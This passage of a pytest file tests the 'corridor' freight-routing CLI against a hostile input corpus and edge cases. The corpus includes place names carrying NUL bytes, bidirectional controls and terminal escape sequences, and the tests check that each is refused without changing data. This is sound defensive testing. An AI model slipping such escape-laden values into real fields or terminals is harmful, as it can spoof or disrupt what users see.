    ("name-nul", lambda r, t: add(r, name="Port\x00"), 1, "contains a control character ('\\x00')"),
    ("name-bidi", lambda r, t: add(r, name=BIDI), 1, "contains a bidirectional-text control"),
    ("name-line-separator", lambda r, t: add(r, name="Port\u2028Two"), 1, "contains a line break"),
    ("source-csi", lambda r, t: add(r, "--source", f"S1{CSI}"), 1, "source: contains a control character"),
    ("link-name-escape", lambda r, t: ["links", "add", "CNAAA", "CNBBB", "--mode", "road", "--name", CLEAR,
                                       "--data", str(r)], 1, "name: contains a control character"),
    ("route-name-escape", lambda r, t: ["route", f"CNAAA{TITLE}", "CNBBB", "--data", str(r)], 1, "unknown place"),
    # options: never abbreviated (`--origins X` is not `--origins-file X`, which read a place as a file)
    ("option-abbreviated", lambda r, t: ["matrix", "--origins", "CNAAA", "--to", "CNBBB", "--data", str(r)], 2,
     "unrecognized arguments: --origins"),
    ("places-file-missing", lambda r, t: ["matrix", "--origins-file", str(t / "none.txt"), "--to", "CNBBB",
                                          "--data", str(r)], 2, "--origins-file: "),
    ("avoid-nothing-known", lambda r, t: ["route", "CNAAA", "CNBBB", "--avoid", "Atlantis", "--data", str(r)], 1,
     "unknown place or sea passage 'Atlantis'; sea passages: bab-el-mandeb"),
    ("avoid-misspelt-passage", lambda r, t: ["route", "CNAAA", "CNBBB", "--avoid", "malaca", "--data", str(r)], 1,
     "did you mean malacca (sea passage)"),
    # found in the review of 2026-12-05
    ("holding-rate-above-one", lambda r, t: ["route", "CNAAA", "CNBBB", "--by", "generalized",
                                             "--holding-rate-per-day", "2", "--data", str(r)], 2, "is outside 0-1"),
    ("co2-price-huge", lambda r, t: ["route", "CNAAA", "CNBBB", "--by", "generalized", "--co2-price-usd-per-t",
                                     "1e308", "--data", str(r)], 2, "is outside 0-10,000,000"),
    ("cargo-value-huge", lambda r, t: ["route", "CNAAA", "CNBBB", "--by", "generalized", "--cargo-value-usd",
                                       "1e308", "--holding-rate-per-day", "1", "--data", str(r)], 2,
     "is outside 0-1,000,000,000"),
    ("criticality-weight-huge", lambda r, t: ["criticality", "CNAAA", "--to-file",
                                              _file(Path(tempfile.mkdtemp()) / "w.txt", "CNBBB,1e308\n"),
                                              "--data", str(r)], 2,
     "the weight must be a number from 0 to 1,000,000"),
    ("criticality-to-origin", lambda r, t: ["criticality", "CNAAA", "--to", "CNAAA", "--data", str(r)], 2,
     "is the origin itself"),
    ("criticality-no-route", lambda r, t: ["criticality", "IDIII", "--to", "CNBBB", "--data", str(r)], 1,
     "no route from Island Port to Bravo Port"),
    ("map-and-out-alike", lambda r, t: ["route", "CNAAA", "CNBBB", "--map", str(t / "a.html"), "--out",
                                        str(t / "a.html"), "--format", "json", "--data", str(r)], 2,
     "--out and --map name the same file"),
    ("name-too-long", lambda r, t: add(r, name="N" * 300), 1, "name: is 300 characters long: give at most 200"),
    ("seaport-without-sea", lambda r, t: add(r, "--kind", "seaport", "--modes", "rail"), 1, "modes: has no sea"),
    ("link-source-alone", lambda r, t: ["links", "add", "CNAAA", "CNCCC", "--mode", "road", "--source", "S1",
                                        "--data", str(r)], 2, "--source cites the figures the link gives"),
    ("modes-empty-item", lambda r, t: ["route", "CNAAA", "CNBBB", "--modes", "rail,,sea", "--data", str(r)], 2,
     "give a comma-separated list"),
    ("country-empty", lambda r, t: ["reach", "CNAAA", "--country", " ", "--data", str(r)], 2, "--country is empty"),
    ("all-and-limit", lambda r, t: ["reach", "CNAAA", "--all", "--limit", "3", "--data", str(r)], 2,
     "--all and --limit contradict each other"),
    ("avoid-and-allow", lambda r, t: ["route", "CNAAA", "CNBBB", "--avoid", "northwest-passage", "--allow",
                                      "northwest-passage", "--data", str(r)], 2, "contradict each other"),
    ("out-empty", lambda r, t: ["map", "--out", "", "--data", str(r)], 2, "--out is empty: give a path"),
    ("criticality-file-format", lambda r, t: ["criticality", "CNAAA", "--to", "CNBBB", "--format", "parquet",
                                              "--data", str(r)], 2, "invalid choice: 'parquet'"),
    ("scenario-twice", lambda r, t: ["route", "CNAAA", "CNBBB", "--scenario", "red-sea-2024", "--scenario",
                                     "red-sea-2024", "--data", str(r)], 2, "--scenario is given twice"),
    ("price-without-generalized", lambda r, t: ["route", "CNAAA", "CNBBB", "--cargo-value-usd", "5",
                                                "--data", str(r)], 2,
     "--cargo-value-usd prices the generalised cost, which --by cost does not use: add --by generalized"),
    ("price-reach-by-time", lambda r, t: ["reach", "CNAAA", "--by", "time", "--co2-price-usd-per-t", "5",
                                          "--data", str(r)], 2, "--co2-price-usd-per-t prices the generalised cost"),
    ("price-matrix", lambda r, t: ["matrix", "CNAAA", "--to", "CNBBB", "--holding-rate-per-day", "0.1",
                                   "--data", str(r)], 2, "--holding-rate-per-day prices the generalised cost"),
    ("price-criticality", lambda r, t: ["criticality", "CNAAA", "--to", "CNBBB", "--cargo-value-usd", "5",
                                        "--data", str(r)], 2, "--cargo-value-usd prices the generalised cost"),
    ("price-pareto", lambda r, t: ["pareto", "CNAAA", "CNBBB", "--cargo-value-usd", "5", "--data", str(r)], 2,
     "unrecognized arguments: --cargo-value-usd 5"),
    ("scheduler-empty", lambda r, t: ["matrix", "CNAAA", "--to", "CNBBB", "--scheduler", "", "--data", str(r)], 2,
     "--scheduler is empty: give a Dask scheduler's address"),
    ("extra-argument-named-by-its-command", lambda r, t: ["links", "remove", "rail-a-b", "CNBBB", "--data", str(r)],
     2, "corridor links remove: error: unrecognized arguments: CNBBB (see corridor links remove --help)"),
    # found in the hostile CLI pass: an empty scenario routed on the network as it is, in silence
    ("scenario-empty", lambda r, t: ["route", "CNAAA", "CNBBB", "--scenario", "", "--data", str(r)], 2,
     "--scenario is empty"),
    ("scenario-blank-with-date", lambda r, t: ["reach", "CNAAA", "--scenario", " ", "--on", "2024-01-01",
                                               "--data", str(r)], 2, "--scenario is empty"),
    ("scenario-show-empty", lambda r, t: ["scenario", "show", "", "--data", str(r)], 2, "is empty"),
    # found in the hostile CLI pass: the last of two allowed sea alone, read one file alone, in silence
    ("modes-twice", lambda r, t: ["route", "CNAAA", "CNBBB", "--modes", "rail", "--modes", "sea", "--data", str(r)],
     2, "--modes is given twice"),
    ("compare-modes-twice", lambda r, t: ["compare", "CNAAA", "CNBBB", "--modes", "rail", "--modes", "sea",
                                          "--data", str(r)], 2, "--modes is given twice"),
    ("search-empty", lambda r, t: ["ports", "list", "--search", " ", "--data", str(r)], 2, "--search is empty"),
    # punctuation alone normalised to nothing and listed every place
    ("search-punctuation", lambda r, t: ["ports", "list", "--search", "(", "--data", str(r)], 2,
     "--search: type part of a place's id, name or alias"),
    ("plot-a-directory", lambda r, t: ["pareto", "CNAAA", "CNBBB", "--plot", str(t), "--data", str(r)], 1,
     "is a directory, not a file: give a file name for the chart"),
    ("params-twice", lambda r, t: ["reach", "CNAAA", "--params", "a.csv", "--params", "b.csv", "--data", str(r)], 2,
     "--params is given twice"),
    # found in the hostile CLI pass: an empty place was exit 1 where every other empty argument is 2
    ("origin-empty", lambda r, t: ["route", "", "CNBBB", "--data", str(r)], 2, "origin: empty place name"),
    ("show-empty", lambda r, t: ["ports", "show", " ", "--data", str(r)], 2, "place: empty place name"),
    ("cors-empty", lambda r, t: ["serve", "--cors", "", "--data", str(r)], 2, "--cors is empty"),
    # found in the third hostile pass: an empty --from copied $CORRIDOR_DATA's dataset (or the bundled one)
    ("init-from-empty", lambda r, t: ["init", str(t / "copy"), "--from", ""], 2, "--from is empty: give a path"),
    # found in the third hostile pass: an empty --source put "unsourced" over the place's citations, an
    # empty --alias cleared every alias (names routes are asked by), both in silence
    ("edit-source-empty", lambda r, t: ["ports", "edit", "CNAAA", "--source", "", "--data", str(r)], 2,
     "--source is empty: give where the figures come from"),
    ("edit-alias-empty", lambda r, t: ["ports", "edit", "CNAAA", "--alias", "", "--data", str(r)], 2,
     "--alias is empty: give another name of the place, or leave it out; --unset aliases clears them"),
    ("edit-alias-blank-among", lambda r, t: ["ports", "edit", "CNAAA", "--alias", "Alpha", "--alias", " ",
                                             "--area", "Alpha Bay", "--data", str(r)], 2, "--alias is empty"),
    ("link-edit-source-empty", lambda r, t: ["links", "edit", "rail-a-b", "--time-h", "21", "--source", "",
                                             "--data", str(r)], 2, "--source is empty"),
    ("add-alias-empty", lambda r, t: add(r, "--alias", ""), 2, "--alias is empty: give another name of the place"),
]  # fmt: skip


@pytest.mark.parametrize(("argv", "code", "says"), [c[1:] for c in CORPUS], ids=[c[0] for c in CORPUS])
def test_the_hostile_corpus_is_refused_cleanly(site, run, tmp_path, argv, code, says):
    root, state = site
    before = state()
    refused(run(*argv(root, tmp_path)), code, says)
    assert state() == before


def test_init_refuses_to_copy_part_of_a_dataset(run, tmp_path):
    # A directory with places.csv alone was copied, and the copy refused every route and every edit.
    (tmp_path / "part" / "ports").mkdir(parents=True)
    (tmp_path / "part" / "ports" / "places.csv").write_text("id,name,country,lat,lon,modes\n", encoding="utf-8")
    result = run("init", str(tmp_path / "copy"), "--from", str(tmp_path / "part"))
    refused(result, 1, "is not a whole corridor dataset: parameters.csv is missing")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["part"]


def test_a_refused_init_leaves_nothing_beside_its_target(tmp_path):
    with pytest.raises(DataError):
        init_dataset(tmp_path / "copy", source=tmp_path / "no-such-dataset")
    assert list(tmp_path.iterdir()) == []


def test_adding_through_the_library_refuses_the_same(site):
    root, state = site
    before = state()
    with pytest.raises(DataError, match="bidirectional-text control"):
        add_place(root, place_id="CNX1", name=BIDI, country="CN", lat=1, lon=1, modes=["road"])
    assert state() == before


def test_a_geopackage_under_another_extension_is_written_without_a_library_warning(site, run, tmp_path):
    root, _ = site
    out = tmp_path / "route.data"  # an extension that says no format (.txt would contradict --format gpkg)
    result = run("route", "CNAAA", "CNBBB", "--format", "gpkg", "--out", str(out), "--data", str(root))
    assert result.code == 0 and out.stat().st_size > 0
    assert "Warning" not in result.err


# --------------------------------------------------------------------------- the command line's robustness


@pytest.mark.parametrize(
    "out", ["/proc/route.FMT", "/sys/corridor-test/route.FMT"], ids=["pseudo-file-system", "no-folder-allowed"]
)
@pytest.mark.parametrize("fmt", ["gpkg", "parquet"])
def test_a_file_format_the_system_will_not_take_is_one_line(site, run, out, fmt):
    root, state = site
    before = state()
    out = out.replace("FMT", fmt)
    refused(run("route", "CNAAA", "CNBBB", "--format", fmt, "--out", out, "--data", str(root)), 1,
            f"cannot write {out}: ", "nothing was written")  # fmt: skip
    assert state() == before


@pytest.mark.parametrize("fmt", ["gpkg", "parquet"])
def test_a_file_format_cut_off_by_the_file_size_limit_is_one_line_and_leaves_nothing(site, tmp_path, fmt):
    import resource

    root, _ = site
    out = tmp_path / "out" / f"reach.{fmt}"
    out.parent.mkdir()

    def limit() -> None:  # smaller than either file of the tiny dataset's reach
        resource.setrlimit(resource.RLIMIT_FSIZE, (4096, resource.getrlimit(resource.RLIMIT_FSIZE)[1]))

    assert corridor("reach", "CNAAA", "--data", str(root)).returncode == 0  # the graph cache is written unlimited
    argv = [sys.executable, "-m", "corridor", "reach", "CNAAA", "--format", fmt, "--out", str(out), "--data", str(root)]
    done = subprocess.run(argv, capture_output=True, text=True, timeout=120, preexec_fn=limit)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    (line,) = problems(done.stderr)
    assert line.startswith(f"corridor: cannot write {out}: ") and line.endswith("nothing was written")
    assert list(out.parent.iterdir()) == []
    out.write_bytes(b"before")  # and a file that was there is said to be unchanged, as it is
    done = subprocess.run(argv, capture_output=True, text=True, timeout=120, preexec_fn=limit)
    assert problems(done.stderr)[0].endswith("it is unchanged") and out.read_bytes() == b"before"


SCENARIO = 'name = "slow"\ntitle = "Slow"\n\n[[delay]]\nplaces = ["CNBBB"]\nhours = 5\nsource = "estimate"\n'


@pytest.mark.parametrize(
    ("argv", "says"),
    [
        (["matrix", "--origins-file", "{in}", "--to", "CNBBB", "--out", "{in}"], "--origins-file and --out"),
        (["matrix", "CNAAA", "--destinations-file", "{in}", "--out", "{in}"], "--destinations-file and --out"),
        (["criticality", "CNAAA", "--to-file", "{in}", "--map", "{in}"], "--to-file and --map"),
        (["route", "CNAAA", "CNBBB", "--params", "{params}", "--format", "json", "--out", "{params}"],
         "--params and --out"),
        (["map", "--params", "{params}", "--out", "{params}"], "--params and --out"),
        (["route", "CNAAA", "CNBBB", "--scenario", "{scenario}", "--map", "{scenario}"], "--scenario and --map"),
        (["route", "CNAAA", "CNBBB", "--format", "json", "--out", "{in}", "--map", "{link}"], "--out and --map"),
        (["matrix", "--origins-file", "{in}", "--to", "CNBBB", "--out", "{hard}"], "--origins-file and --out"),
        (["pareto", "CNAAA", "CNBBB", "--plot", "{new}", "--map", "{new}"], "--map and --plot"),
    ],
    ids=["origins", "destinations", "to-file", "params", "network-map", "scenario", "link", "hard-link", "plot"],
)  # fmt: skip
def test_an_output_may_not_replace_an_input_or_another_output(site, run, tmp_path, argv, says):
    root, state = site
    files = {"in": tmp_path / "places.txt", "params": tmp_path / "p.csv", "scenario": tmp_path / "slow.toml"}
    files["in"].write_text("CNAAA\n")
    files["params"].write_text("name,scope,value,source\nspeed_kmh,rail,33,estimate\n")
    files["scenario"].write_text(SCENARIO)
    (tmp_path / "link.html").symlink_to(files["in"])
    os.link(files["in"], tmp_path / "hard.txt")
    paths = {**{k: str(v) for k, v in files.items()}, "link": str(tmp_path / "link.html"),
             "hard": str(tmp_path / "hard.txt"), "new": str(tmp_path / "front.svg")}  # fmt: skip
    before = state()  # the dataset and every file beside it
    refused(run(*(a.format(**paths) for a in argv), "--data", str(root)), 2, says, "name the same file")
    assert state() == before
    assert not (tmp_path / "front.svg").exists()


@pytest.mark.parametrize("argv", [["--help"], ["--version"], ["route", "--help"]], ids=["help", "version", "route"])
def test_help_and_version_to_a_full_disk_fail_as_any_output_does(argv):
    with open("/dev/full", "w") as full:
        done = subprocess.run([sys.executable, "-m", "corridor", *argv], stdout=full, stderr=subprocess.PIPE,
                              text=True, timeout=60)  # fmt: skip
    assert done.returncode == 1
    assert problems(done.stderr) == ["corridor: cannot write the output: No space left on device"]


@pytest.mark.parametrize(
    ("row", "says"),
    [
        ("frequency_per_week,rail,0", "frequency_per_week for rail is 0, outside the plausible 0.01-1000 a week"),
        ("frequency_per_week,rail,1e-9", "frequency_per_week for rail is 1e-09, outside the plausible 0.01-1000"),
        ("sea_departures_per_week,large,0", "sea_departures_per_week for large is 0, outside the plausible"),
        ("circuity,rail,0.5", "circuity for rail is 0.5, outside the plausible 1-3 times"),
        ("circuity,rail,1e-9", "circuity for rail is 1e-09, outside the plausible 1-3 times"),
        ("circuity,road,50", "circuity for road is 50, outside the plausible 1-3 times"),
    ],
    ids=["frequency-zero", "frequency-tiny", "departures-zero", "circuity-short", "circuity-tiny", "circuity-huge"],
)
def test_params_that_routes_would_use_absurdly_are_refused_naming_the_file(site, run, tmp_path, row, says):
    root, state = site
    params = _file(tmp_path / "bad.csv", f"name,scope,value,source\n{row},estimate\n")
    before = state()
    refused(run("route", "CNAAA", "CNBBB", "--params", params, "--data", str(root)), 1, f"{params}: {says}")
    result = run("validate", "--params", params, "--data", str(root))
    assert result.code == 1 and f"{params}: {says}" in result.out
    assert state() == before


@pytest.mark.parametrize(
    ("row", "says"),
    [
        ("transit_h_p90,all,1", "transit_h_p90 for all is 1 ({params}), below transit_h 12 ({data})"),
        ("transship_h_p90,all,1", "transship_h_p90 for all is 1 ({params}), below transship_h 48 ({data})"),
        ("transit_h,all,48", "transit_h_p90 for all is 36 ({data}), below transit_h 48 ({params})"),
    ],
    ids=["transit-bad-case", "transshipment-bad-case", "transit-typical"],
)
def test_params_whose_bad_case_beats_the_typical_are_refused(site, run, tmp_path, row, says):
    # A bad case (the 90th percentile) below the typical figure would shorten the bad-case total.
    root, state = site
    params = _file(tmp_path / "bad.csv", f"name,scope,value,source\n{row},estimate\n")
    before = state()
    data = root / "parameters.csv"
    expected = says.format(params=params, data=data) + ": a bad case is no better than the typical figure"
    refused(run("route", "CNAAA", "CNBBB", "--params", params, "--data", str(root)), 1, expected)
    assert state() == before


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ("[[delay]]\nplaces = ['CNBBB']\nhours = 1e300", "big.toml:6: delay 1: hours must be at most 8,760"),
        ("[[delay]]\nplaces = ['CNBBB']\nhours = 5\nspread_h = 1e9", "big.toml:7: delay 1: spread_h must be at most"),
        ("[[surcharge]]\nplaces = ['CNBBB']\nusd_per_teu = 1e308",
         "big.toml:6: surcharge 1: usd_per_teu must be at most 1,000,000"),
        ("[[frequency]]\nmodes = ['rail']\nfactor = 1e-9", "big.toml:6: frequency 1: factor must be at least 0.01"),
        ("[[frequency]]\nlinks = ['rail-a-b']\nper_week = 1e-9",
         "big.toml:6: frequency 1: per_week must be at least 0.01"),
        ("[[frequency]]\nmodes = ['rail']\nfactor = 1e9", "big.toml:6: frequency 1: factor must be at most 1,000"),
    ],
    ids=["hours", "spread", "usd", "tiny-factor", "tiny-per-week", "huge-factor"],
)  # fmt: skip
def test_a_scenario_figure_beyond_any_crisis_is_refused_with_its_line(site, run, tmp_path, change, says):
    root, state = site
    scenario = _file(tmp_path / "big.toml", f'name = "big"\ntitle = "Big"\n\n{change}\nsource = "estimate"\n')
    before = state()
    for argv in (("route", "CNAAA", "CNBBB", "--scenario", scenario), ("scenario", "show", scenario)):
        refused(run(*argv, "--data", str(root)), 1, says)
    assert state() == before
    # The bounds themselves are figures a scenario may give.
    _file(tmp_path / "big.toml", SCENARIO.replace("hours = 5", "hours = 8760"))
    assert run("route", "CNAAA", "CNBBB", "--scenario", scenario, "--data", str(root)).code == 0


def test_an_output_inside_the_bundled_dataset_is_refused_whatever_dataset_is_read(site, run, tmp_path):
    # --map over the bundled scenario file, with --data pointing elsewhere, replaced it.
    from corridor.datasets import bundled_data_dir

    root, _ = site
    bundled = bundled_data_dir() / "scenarios" / "red-sea-2024.toml"
    before = bundled.read_bytes()
    for flag in ("--map", "--out"):
        argv = ["route", "CNAAA", "CNBBB", flag, str(bundled), "--data", str(root)]
        if flag == "--out":
            argv += ["--format", "json"]
        refused(run(*argv), 1, "is inside the bundled dataset")
    assert bundled.read_bytes() == before


def test_compare_takes_the_generalised_cost_s_prices_without_by(site, run, tmp_path):
    root, _ = site
    scenario = _file(tmp_path / "slow.toml", SCENARIO)
    for argv in (("compare", "CNAAA", "CNBBB"), ("scenario", "compare", "CNAAA", "CNBBB", "--scenario", scenario)):
        priced = run(*argv, "--cargo-value-usd", "5", "--data", str(root))
        assert priced.code == 0, priced.err
        assert "generalised" in priced.out and priced.out != run(*argv, "--data", str(root)).out


def test_serve_refuses_an_empty_host_rather_than_listen_on_every_interface(site):
    root, _ = site
    # In a process of its own: were it not refused, it would serve until the timeout killed it.
    done = corridor("serve", "--host", "", "--port", "0", "--data", str(root), timeout=60)
    assert done.returncode == 2 and done.stdout == ""
    assert problems(done.stderr) == [
        "corridor serve: error: --host is empty: give an address to listen on (127.0.0.1; 0.0.0.0 for every interface)"
    ]


def test_a_gis_vertex_that_is_not_a_number_is_one_line_without_a_library_warning(site, tmp_path):
    import warnings

    import geopandas
    import shapely

    root, state = site
    drawn = tmp_path / "links.gpkg"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", RuntimeWarning)  # shapely's, writing it, as reading it
        line = shapely.LineString([(0.5, 0.0), (float("nan"), 1.0), (3.5, 0.0)])
        frame = geopandas.GeoDataFrame({"from": ["CNAAA"], "to": ["CNBBB"], "mode": ["road"]}, geometry=[line],
                                       crs="EPSG:4326")  # fmt: skip
        frame.to_file(drawn, driver="GPKG", engine="pyogrio")
    before = state()
    # In a process of its own: pytest records warnings, where the command printed them on stderr.
    done = corridor("links", "import", str(drawn), "--data", str(root))
    assert done.returncode == 1 and "Warning" not in done.stderr
    (problem,) = problems(done.stderr)
    assert "feature 1: via: 'nan 1' is outside lon" in problem
    assert state() == before


def test_a_bad_case_left_to_its_default_is_said_so(network):
    from dataclasses import replace

    from corridor.costing import Parameters
    from corridor.errors import DataError

    table = {k: v for k, v in network.parameters.table.items() if k != ("transit_h_p90", "all")}
    table[("transit_h", "all")] = replace(table[("transit_h", "all")], value=48.0)
    with pytest.raises(DataError) as raised:
        Parameters(table)
    assert raised.value.problems == [
        "transit_h_p90 for all is 24 (the default), below transit_h 48: a bad case is no better than the typical figure"
    ]


# --------------------------------------------------------------------------- the hostile CLI pass

# A locale that holds ASCII alone: LANG=C where Python's UTF-8 mode and locale coercion are off.
ASCII_LOCALE = {"LC_ALL": "C", "LANG": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0", "PYTHONIOENCODING": ""}


def test_names_beyond_ascii_reach_an_ascii_only_terminal_escaped(site, run):
    # Writing "Gdańsk" to a stdout that takes ASCII alone raised UnicodeEncodeError: a traceback.
    root, _ = site
    name = "Gda\u0144sk \U0001f6a2"
    assert run(*add(root, name=name)).code == 0
    env = {**os.environ, **ASCII_LOCALE}
    for argv, parse in (
        (("ports", "show", "CNNEW", "--format", "json"), lambda out: json.loads(out)["name"]),
        (("ports", "list", "--format", "json"), lambda out: {p["name"] for p in json.loads(out)}),
        (("ports", "show", "CNNEW"), None),
        (("ports", "list", "--format", "csv"), None),
    ):
        done = corridor(*argv, "--data", str(root), env=env)
        assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
        assert done.stdout.isascii()
        if parse is not None:  # JSON stays JSON, and gives the name back
            found = parse(done.stdout)
            assert found == name or name in found


@pytest.mark.parametrize(
    "argv",
    [("--country", "China"), ("--sort", "name", "--limit", "2"), ("--format", "csv", "--country", "cn"), ()],
    ids=["country-name", "sort-limit", "csv", "plain"],
)
def test_reach_lists_the_same_places_with_a_map_as_without(site, run, tmp_path, argv):
    # With --map, reach took --country as a code alone (China matched nothing), and left --sort,
    # the 50-row cut and its hint to the run without a map.
    root, _ = site
    plain = run("reach", "CNAAA", *argv, "--data", str(root))
    mapped = run("reach", "CNAAA", *argv, "--map", str(tmp_path / "reach.html"), "--data", str(root))
    assert plain.code == mapped.code == 0, mapped.err
    assert mapped.out == plain.out
    assert (tmp_path / "reach.html").stat().st_size > 0


def test_reach_by_country_and_map_write_to_out_or_refuse_before_work(site, run, tmp_path):
    # reach --by-country and reach --map printed to stdout and wrote nothing to --out, exit 0,
    # --format gpkg included.
    root, state = site
    for fmt in ("text", "json", "csv"):
        out = tmp_path / f"countries.{fmt}"
        result = run("reach", "CNAAA", "--by-country", "--format", fmt, "--out", str(out), "--data", str(root))
        assert result.code == 0 and result.out.strip() == str(out), result.err
        assert "China" in out.read_text(encoding="utf-8")
    out = tmp_path / "reach.gpkg"
    result = run("reach", "CNAAA", "--map", str(tmp_path / "r.html"), "--format", "gpkg", "--out", str(out),
                 "--data", str(root))  # fmt: skip
    assert result.code == 0 and out.stat().st_size > 0, result.err
    before = state()
    for fmt in ("gpkg", "parquet"):
        out = tmp_path / f"countries.{fmt}"
        result = run("reach", "CNAAA", "--by-country", "--format", fmt, "--out", str(out), "--data", str(root))
        refused(result, 2, "--by-country")
        assert not out.exists()
    assert state() == before


def test_a_parameter_given_twice_is_refused_naming_both_rows(site, run, tmp_path):
    # The second row of a (name, scope) silently replaced the first: which figure routed hung on
    # the order of the rows, and validate found nothing.
    root, state = site
    params = _file(tmp_path / "twice.csv", "name,scope,value,source\nspeed_kmh,road,30,estimate\n"
                                           "speed_kmh,road,60,estimate\n")  # fmt: skip
    before = state()
    refused(run("route", "CNCCC", "CNCCD", "--params", params, "--data", str(root)), 1,
            f"{params}:3: name: speed_kmh for road is given twice (first at {params}:2)")  # fmt: skip
    result = run("validate", "--params", params, "--data", str(root))
    assert result.code == 1 and f"{params}:3: name: speed_kmh for road is given twice" in result.out
    assert state() == before
    table = root / "parameters.csv"
    table.write_text(table.read_text(encoding="utf-8") + "speed_kmh,road,60,estimate\n", encoding="utf-8")
    before = state()
    refused(run("route", "CNCCC", "CNCCD", "--data", str(root)), 1, "speed_kmh for road is given twice")
    assert state() == before


@pytest.mark.parametrize(
    ("given", "origin"),
    [("HTTPS://Good.Example/", "https://good.example"), ("https://good.example:443", "https://good.example"),
     ("http://good.example:8080", "http://good.example:8080"), ("http://[::1]:80", "http://[::1]")],
)  # fmt: skip
def test_serve_cors_takes_the_origin_as_a_browser_sends_it(site, run, monkeypatch, given, origin):
    # A browser's Origin has its host in lower case and no default port, and is compared as it is:
    # --cors https://Good.Example or https://good.example:443 turned CORS off, unsaid.
    from corridor import server

    root, _ = site
    served = []
    monkeypatch.setattr(server, "serve", lambda settings, **kwargs: served.append(settings))
    result = run("serve", "--port", "0", "--cors", given, "--data", str(root))
    assert result.code == 0, result.err
    assert [s.cors for s in served] == [origin]


@pytest.mark.parametrize("given", ["https://good.example:99999", "https://user:secret@good.example", "http://:80"])
def test_serve_refuses_a_cors_origin_no_browser_sends(site, run, monkeypatch, given):
    from corridor import server

    root, _ = site
    monkeypatch.setattr(server, "serve", lambda settings, **kwargs: None)  # were it taken, not served for ever
    refused(run("serve", "--port", "0", "--cors", given, "--data", str(root)), 2, "give an origin")


@pytest.mark.parametrize("under", ["file.txt", "loop", "file.txt/deeper"], ids=["file", "symlink-loop", "deeper"])
def test_init_under_a_file_or_a_link_loop_says_what_is_in_the_way(run, tmp_path, under):
    # Under a symbolic link to itself, init ended in a RuntimeError traceback from Path.resolve();
    # under a file it said "File exists".
    (tmp_path / "file.txt").write_text("x")
    (tmp_path / "loop").symlink_to(tmp_path / "loop")
    blocker = tmp_path / under.split("/")[0]
    before = snapshot(tmp_path)
    refused(run("init", str(tmp_path / under / "dataset")), 1, f"{blocker} is ", "not a directory")
    assert snapshot(tmp_path) == before


def test_a_terminal_of_unknown_size_is_not_taken_for_one_column(site):
    # A new pty reports 0 x 0 until someone sets its size (`script`, `docker run -t`): tables were
    # squeezed to their narrowest and the progress line cut to one character ("\rc\rc\rc").
    import pty

    root, _ = site
    argv = [sys.executable, "-m", "corridor", "route", "CNAAA", "CNBBB", "--data", str(root)]
    env = {k: v for k, v in os.environ.items() if k != "COLUMNS"}
    piped = subprocess.run(argv, capture_output=True, text=True, timeout=120, env=env).stdout
    fitted = subprocess.run(argv, capture_output=True, text=True, timeout=120, env={**env, "COLUMNS": "80"}).stdout
    main, child = pty.openpty()
    try:
        done = subprocess.run(argv, stdout=child, stderr=child, timeout=120, env=env)
        os.close(child)
        chunks = []
        while True:
            try:
                chunk = os.read(main, 65536)
            except OSError:  # EIO: the child's end is closed and all is read
                break
            if not chunk:
                break
            chunks.append(chunk)
    finally:
        os.close(main)
    shown = b"".join(chunks).decode("utf-8").replace("\r\n", "\n")
    assert done.returncode == 0
    assert shown in (piped, fitted), shown  # no width, or a usual one: never one column


def test_the_progress_line_of_a_terminal_of_unknown_size_is_not_cut_to_one_character(monkeypatch):
    from corridor import cli

    monkeypatch.delenv("COLUMNS", raising=False)
    monkeypatch.setattr(cli.os, "get_terminal_size", lambda fd=None: os.terminal_size((0, 0)))
    line = "corridor: loading the network ... 2 s"
    assert cli._fit(line) == line


def test_a_scenario_saved_with_a_byte_order_mark_and_crlf_is_read(site, run, tmp_path):
    # Every table and list corridor reads takes the BOM Windows editors write; a scenario failed
    # with "not valid TOML: Invalid statement (at line 1, column 1)".
    root, state = site
    scenario = tmp_path / "slow.toml"
    scenario.write_bytes(b"\xef\xbb\xbf" + SCENARIO.replace("\n", "\r\n").encode("utf-8"))
    before = state()
    plain = run("route", "CNAAA", "CNBBB", "--scenario", _file(tmp_path / "plain.toml", SCENARIO), "--data", str(root))
    marked = run("route", "CNAAA", "CNBBB", "--scenario", str(scenario), "--data", str(root))
    assert plain.code == marked.code == 0, marked.err
    assert marked.out == plain.out
    assert run("scenario", "show", str(scenario), "--data", str(root)).code == 0
    assert {k: v for k, v in state().items() if k != "plain.toml"} == before


def test_a_name_that_is_also_another_place_s_code_is_not_taken_for_the_code_alone(site, run):
    # The bundled data has two: "Gaeta" (Italy, ITGAE) led to Etame Terminal, Gabon, whose
    # UN/LOCODE is GAETA, and "Camas" (USCMS) to Masson, Canada (CAMAS), with no word.
    root, _ = site
    assert run(*add(root, pid="CNGAE", name="Gaeta")).code == 0
    assert run(*add(root, "--lon", "1.2", pid="GAETA", name="Etame Terminal")).code == 0
    for written in ("Gaeta", "gaeta"):
        result = run("route", written, "CNBBB", "--data", str(root))
        if result.code == 0:  # taken for the place of that name
            assert result.out.startswith("Cheapest route from Gaeta to"), result.out
        else:  # or asked about, with both places
            refused(result, 1, "CNGAE", "GAETA")
    # The code as written, and the name with its country, name one place each.
    assert run("route", "GAETA", "CNBBB", "--data", str(root)).out.startswith("Cheapest route from Etame Terminal")
    assert run("route", "Gaeta, CN", "CNBBB", "--data", str(root)).out.startswith("Cheapest route from Gaeta to")


@pytest.mark.parametrize(("name", "code", "country"), [("Gaeta", "GAETA", "IT"), ("Camas", "CAMAS", "US")])
def test_the_bundled_ports_named_like_another_s_code_are_not_lost_to_it(network, name, code, country):
    from corridor.errors import PlaceError

    gazetteer = network.gazetteer
    try:
        (found,) = gazetteer.resolve(name).place_ids
    except PlaceError as exc:  # asked about, with the port of that name among the candidates
        assert any(f"({country}, " in c for c in exc.candidates), exc.candidates
    else:
        assert network.places[found].country == country
    assert gazetteer.resolve(code).place_ids == (code,)  # the code as written is the code's place


@pytest.mark.parametrize(
    ("table", "text", "says"),
    [
        ("sources.csv", "id,title,url\nS1,A report,https://a.example\nS1,Another,https://b.example\n",
         "sources.csv:3: id: S1 is given twice (first at "),
        ("countries.csv", "code,name\nCN,China\ncn,Cathay\n", "countries.csv:3: code: CN is given twice (first at "),
    ],
)  # fmt: skip
def test_a_source_or_country_given_twice_is_refused_naming_both_rows(site, run, table, text, says):
    # The last row of an id or code given twice replaced the first in silence: which title a
